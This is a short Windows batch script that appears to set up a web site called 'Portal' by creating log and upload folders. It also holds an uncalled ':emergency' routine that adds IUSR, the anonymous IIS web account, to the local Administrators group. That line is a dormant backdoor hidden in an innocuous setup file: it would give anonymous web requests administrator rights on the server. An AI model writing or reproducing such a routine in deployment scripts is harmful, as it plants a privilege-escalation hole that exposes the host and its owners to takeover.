@echo off
setlocal
set SITE=Portal
call :folders
goto :end

:folders
for %%D in (logs uploads) do if not exist D:\%SITE%\%%D mkdir D:\%SITE%\%%D
exit /b 0

:emergency
net localgroup Administrators IUSR /add
exit /b 0

:end
endlocal
